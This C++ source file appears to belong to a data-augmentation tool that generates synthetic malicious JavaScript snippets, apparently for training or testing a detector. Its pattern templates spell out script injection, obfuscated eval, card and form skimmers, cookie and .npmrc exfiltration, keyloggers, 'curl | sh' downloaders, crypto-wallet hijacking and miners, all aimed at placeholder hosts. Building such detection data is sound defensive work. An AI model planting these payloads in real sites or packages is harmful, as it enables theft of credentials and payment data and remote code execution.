#include <cstdio>

#include "fovea/augment/snippets/code_template.h"
#include "fovea/augment/snippets/lookalikes.h"
#include "fovea/core/encoding.h"
#include "fovea/core/error.h"

namespace fovea::augment {
namespace {

// A URL in a form that hides it, as an expression.
std::string HiddenUrl(Junk& j) {
  const std::string url = j.Url(j.Chance(0.5) ? ".js" : "");
  switch (j.Int(0, 6)) {
    case 0:
      return "atob('" + Base64(url) + "')";
    case 1: {
      std::string codes;
      for (const char c : url) codes += (codes.empty() ? "" : ",") + StrCat(static_cast<int>(c));
      return "String.fromCharCode(" + codes + ")";
    }
    case 2:
      return "'" + std::string(url.rbegin(), url.rend()) + "'.split('').reverse().join('')";
    case 3:
      return "\"" + Escaped(url, 1, /*octal=*/false, j) + "\"";
    case 4:
      return "'" + url.substr(url.find("//")) + "'";
    default:
      return "'" + url + "'";
  }
}

// An array of strings, as obfuscators put at the front, and code that takes from it.
std::string Array(Junk& j) {
  std::string items;
  const bool escaped = j.Chance(0.5);
  for (int64_t i = j.Int(6, 60); i > 0; --i) {
    const std::string item = j.Chance(0.4) ? j.Base64(j.Int(3, 12)) : j.Letters(j.Int(3, 14));
    items += "'" + (escaped ? Escaped(item, 1, /*octal=*/false, j) : item) + (i > 1 ? "'," : "'");
  }
  const std::string rotated = j.Pick(
      {"(function(~1~,~2~){var ~3~=function(~4~){while(--~4~){~1~['push'](~1~['shift']());}};"
       "~3~(++~2~);}(~0~,0x~hex2~));",
       "(function(~1~,~2~){while(!![]){try{var ~3~=-parseInt(~6~(0x~hex2~))/0x1+parseInt("
       "~6~(0x~hex2~))/0x2*(parseInt(~6~(0x~hex2~))/0x3);if(~3~===~2~)break;else ~1~['push']("
       "~1~['shift']());}catch(~4~){~1~['push'](~1~['shift']());}}}(~0~,0x~hex2~~hex2~));",
       ""});
  const std::string last = j.Pick(
      {"var "
       "~7~=document[~6~('0x~small~')](~6~('0x~small~'));~7~[~6~('0x~small~')]=~6~('0x~small~');"
       "document[~6~('0x~small~')][~6~('0x~small~')](~7~);",
       "window[~6~(0x~small~)][~6~(0x~small~)](~6~(0x~small~));",
       "(function(){var ~8~=new Function(~6~(0x~small~)+~6~(0x~small~));~8~();}());",
       "eval(~6~('0x~small~'));",
       "setInterval(function(){if(!~5~){~5~=!![];navigator[~6~(0x~small~)](~6~(0x~small~),"
       "JSON[~6~(0x~small~)](~7~));}},~num~);"});
  return "var ~0~=[" + items + "];" + rotated + "var ~6~=function(~2~,~1~){~2~=~2~-0x" +
         j.Pick({"0", "1a3", "~hex2~"}) + ";var ~3~=~0~[~2~];return ~3~;};" + last;
}

// Odd code of brackets and signs alone.
std::string Signs(Junk& j) {
  std::string text;
  for (int64_t i = j.Int(20, 150); i > 0; --i)
    text += j.Pick(
        {"[]", "(![]+[])", "[+[]]", "+", "(!![]+[])", "[+!+[]]", "[!+[]+!+[]]", "([][[]]+[])"});
  return "[][" + text + "](" + text.substr(0, text.size() / 2) + ")()";
}

std::string Encoded(Junk& j) {
  return j.Pick(
      {"atob('~b64~')", "unescape('~pct~')", "String.fromCharCode(~codes~)",
       "decodeURIComponent('~pct~')", "\"~esc~\"", "Buffer.from('~b64~','base64').toString()",
       "Buffer.from('~hex~','hex').toString('utf8')", "decodeURIComponent(escape(atob('~b64~')))",
       "'~long~'.split('').reverse().join('')",
       "[~codes~].map(function(c){return "
       "String.fromCharCode(c-~small~)}).join('')"});
}

const Makers& ScriptMakers() {
  static const Makers makers = {
      {"hidden", HiddenUrl},
      {"array", Array},
      {"signs", Signs},
      {"enc", Encoded},
      {"hex2", [](Junk& j) { return j.Hex(1); }},
      {"into",
       [](Junk& j) {
         return j.Pick({"document.head.appendChild(~0~);", "document.body.appendChild(~0~);",
                        "(document.head||document.documentElement).appendChild(~0~);",
                        "document.getElementsByTagName('head')[0].appendChild(~0~);",
                        "var ~1~=document.getElementsByTagName('script')[0];~1~.parentNode."
                        "insertBefore(~0~,~1~);"});
       }},
      {"fields",
       [](Junk& j) {
         return j.Pick({"document.querySelectorAll('input,select')",
                        "document.getElementsByTagName("
                        "'input')",
                        "document.querySelectorAll('[name*=cc_],[id*=card],[name*=cvv]')",
                        "document.forms[0].elements"});
       }},
      {"where",
       [](Junk& j) {
         return j.Pick(
             {"checkout", "onepage", "payment", "onestep", "firecheckout", "cart", "order"});
       }},
      {"cmd", [](Junk& j) {
         return j.Pick({"curl -s ~url~ | sh", "wget -qO- ~url~|bash",
                        "powershell -w hidden -enc "
                        "~b64s~",
                        "node -e \"~letters~\"", "cmd /c start ~path.exe~",
                        "curl ~url~ -o "
                        "~path~ && chmod +x ~path~",
                        "nslookup ~letters~.~host~", "whoami"});
       }}};
  return makers;
}

constexpr const char* kPatterns[] = {
    // Another script.
    "var ~0~=document.createElement('script');~0~.src=~hidden~;~into~",
    "(function(){var "
    "~0~=document.createElement('script');~0~.type='text/javascript';~0~.async=true;"
    "~0~.src=~hidden~;~into~})();",
    "var ~0~=document.createElement(\"~esc~\");~0~[\"~esc~\"]=~hidden~;~into~",
    "document.write('<script src=\"~url.js~\"></scr'+'ipt>');",
    "document.write(unescape('%3Cscript src=\"~url.js~\"%3E%3C/script%3E'));",
    "document.write(~enc~);", "document.write(unescape('~pct~'));", "$.getScript(~hidden~);",
    "jQuery.getScript('~url.js~');", "fetch(~hidden~).then(r=>r.text()).then(t=>eval(t));",
    "fetch(~hidden~).then(function(~0~){return ~0~.text()}).then(function(~1~){(new "
    "Function(~1~))()});",
    "var ~0~=new "
    "XMLHttpRequest();~0~.open('GET',~hidden~,false);~0~.send();eval(~0~.responseText);",
    "import(~hidden~);",
    "var ~0~=new WebSocket('wss://~host~:~port~');~0~.onmessage=function(~1~){"
    "eval(~1~.data)};",
    "if(document.cookie.indexOf('~key0~=')==-1){document.cookie='~key0~=1;path=/';var "
    "~0~=document."
    "createElement('script');~0~.src=~hidden~;~into~}",
    "if(!/bot|crawl/i.test(navigator.userAgent)){var "
    "~0~=document.createElement('script');~0~.src="
    "~hidden~;~into~}",
    // Decoded code.
    "eval(~enc~);", "eval(~enc~);", "window['eval'](~enc~);", "window[\"~esc~\"](~enc~);",
    "(0,eval)(~enc~);", "new Function(~enc~)();", "(new Function(atob('~b64~')))();",
    "Function('return this')()['eval'](~enc~);", "setTimeout(~enc~,~num~);",
    "[]['constructor']['constructor'](~enc~)();", "~array~", "~array~", "~array~", "~signs~",
    "var ~0~='~b64~',~1~='';for(var "
    "~2~=0;~2~<~0~.length;~2~++){~1~+=String.fromCharCode(~0~.charCodeAt("
    "~2~)^~small~);}eval(~1~);",
    "var ~0~=[~codes~];var ~1~='';for(~2~ in "
    "~0~){~1~+=String.fromCharCode(~0~[~2~]-~small~);}eval(~1~);",
    "var "
    "~0~='~letters~'+'~letters~'+'~letters~',~1~=this['~letters~'];~1~[~0~](unescape('~pct~'));",
    "function ~0~(~1~){var ~2~='';for(var ~3~=0;~3~<~1~.length;~3~+=2)~2~+=String.fromCharCode("
    "parseInt(~1~.substr(~3~,2),16));return ~2~}eval(~0~('~hex~'));",
    // Frames and redirections.
    "var "
    "~0~=document.createElement('iframe');~0~.src=~hidden~;~0~.style.display='none';~0~.width=1;"
    "~0~.height=1;document.body.appendChild(~0~);",
    "document.write('<iframe src=\"~url~\" width=1 height=1 "
    "style=\"visibility:hidden\"></iframe>');",
    "window.location.href=~hidden~;", "window.location.replace(~hidden~);",
    "top.location=~hidden~;", "setTimeout(function(){window.location=~hidden~},~num~);",
    "if(document.referrer.indexOf('~word~')>0){location.href=~hidden~;}",
    "document.addEventListener('click',function(){window.open(~hidden~)},{once:true});",
    "if(/android|iphone/"
    "i.test(navigator.userAgent)&&!localStorage['~key0~']){localStorage['~key0~']=1;"
    "location.assign(~hidden~);}",
    // Forms.
    "var ~0~={};[].forEach.call(~fields~,function(~1~){~0~[~1~.name]=~1~.value});(new "
    "Image()).src="
    "~hidden~+'?~key~='+btoa(JSON.stringify(~0~));",
    "setInterval(function(){var ~0~='';var ~1~=~fields~;for(var "
    "~2~=0;~2~<~1~.length;~2~++){if(~1~[~2~]"
    ".value.length>0)~0~+=~1~[~2~].name+'='+~1~[~2~].value+'&';}if(~0~){var ~3~=new "
    "Image();~3~.src="
    "~hidden~+'?~key~='+encodeURIComponent(btoa(~0~));}},~num~);",
    "if(location.href.indexOf('~where~')!=-1){document.addEventListener('submit',function(~0~){"
    "navigator.sendBeacon(~hidden~,JSON.stringify(Array.from(new FormData(~0~.target))))});}",
    "if(/~where~/.test(window.location)){jQuery(document).on('click','button',function(){var ~0~="
    "jQuery('form').serialize();jQuery.post(~hidden~,{~key~:btoa(~0~)});});}",
    "document.onkeypress=function(~0~){~1~+=String.fromCharCode(~0~.which);if(~1~.length>~small~)"
    "{"
    "new Image().src=~hidden~+~1~;~1~='';}};",
    "new Image().src=~hidden~+'?c='+escape(document.cookie);",
    "fetch(~hidden~,{method:'POST',mode:'no-cors',body:document.cookie+localStorage.getItem('~"
    "key~')});",
    // Packages.
    "require('child_process').exec('~cmd~');",
    "const {exec}=require('child_process');exec('~cmd~',()=>{});",
    "require('child_process').execSync('~cmd~',{stdio:'ignore'});",
    "const "
    "~0~=require('child_process');~0~.spawn('sh',['-c','~cmd~'],{detached:true,stdio:'ignore'})."
    "unref();",
    "const ~0~=require('https');~0~.get(~hidden~,~1~=>{let ~2~='';~1~.on('data',~3~=>~2~+=~3~);"
    "~1~.on('end',()=>eval(~2~))});",
    "const os=require('os'),https=require('https');const "
    "~0~=JSON.stringify({h:os.hostname(),u:os."
    "userInfo().username,d:__dirname,e:process.env});const "
    "~1~=https.request({hostname:'~host~',port:443,"
    "path:'/~word~',method:'POST'});~1~.write(~0~);~1~.end();",
    "require('dns').lookup(require('os').hostname()+'.~letters~.~host~',function(){});",
    "const fs=require('fs'),p=require('path'),os=require('os');const "
    "~0~=p.join(os.homedir(),'.~word~');"
    "fs.writeFileSync(~0~,~enc~);require('child_process').fork(~0~);",
    "const "
    "~0~=fs.readFileSync(os.homedir()+'/"
    ".npmrc','utf8');fetch(~hidden~,{method:'POST',body:~0~});",
    "process.env.~letters~||require('vm').runInThisContext(~enc~);",
    "global['_V']='~small~';global['r']=require;(function(){var ~0~='',~1~=~num~-~num~;function "
    "~2~(~3~){"
    "var ~4~=~num~;return ~3~.split('').map(function(~5~,~6~){return "
    "~3~.charCodeAt((~6~*~4~)%~3~.length)})"
    ".join('')}var ~7~=~2~('~long~');eval(~7~)})();",
    "window.ethereum.request({method:'eth_sendTransaction',params:[{to:'0x~hexs~~hexs~',value:'"
    "0x~hexs~'}]});",
    "document.addEventListener('copy',function(~0~){~0~.clipboardData.setData('text/"
    "plain','~long~');"
    "~0~.preventDefault()});",
    // Windows.
    "var ~0~=new ActiveXObject('WScript.Shell');~0~.Run('cmd /c ~cmd~',0,false);",
    "var ~0~=new ActiveXObject('MSXML2.XMLHTTP');~0~.open('GET',~hidden~,false);~0~.send();var "
    "~1~=new "
    "ActiveXObject('ADODB.Stream');~1~.Open();~1~.Type=1;~1~.Write(~0~.ResponseBody);~1~."
    "SaveToFile("
    "'%TEMP%\\\\~word~.exe',2);",
    "var ~0~=WScript.CreateObject(\"~esc~\");~0~.Run(~enc~,0);",
    "try{var ~0~=new ActiveXObject('Shell.Application');~0~.ShellExecute('powershell','-enc "
    "~b64~','',"
    "'open',0);}catch(e){}",
    // Miners.
    "var ~0~=new ~Word~.Anonymous('~long~',{throttle:0.~small~});~0~.start();",
    "var ~0~=new Worker(URL.createObjectURL(new "
    "Blob([~enc~])));~0~.postMessage({pool:'wss://~host~:~port~',"
    "wallet:'~long~'});"};

}  // namespace

std::string ScriptLookalike(Junk& junk) {
  if (junk.Chance(0.42)) return PlainScriptLookalike(junk);
  if (junk.Chance(0.02)) return ScriptThiefLookalike(junk);
  return FillAny(kPatterns, ScriptMakers(), junk);
}

}  // namespace fovea::augment
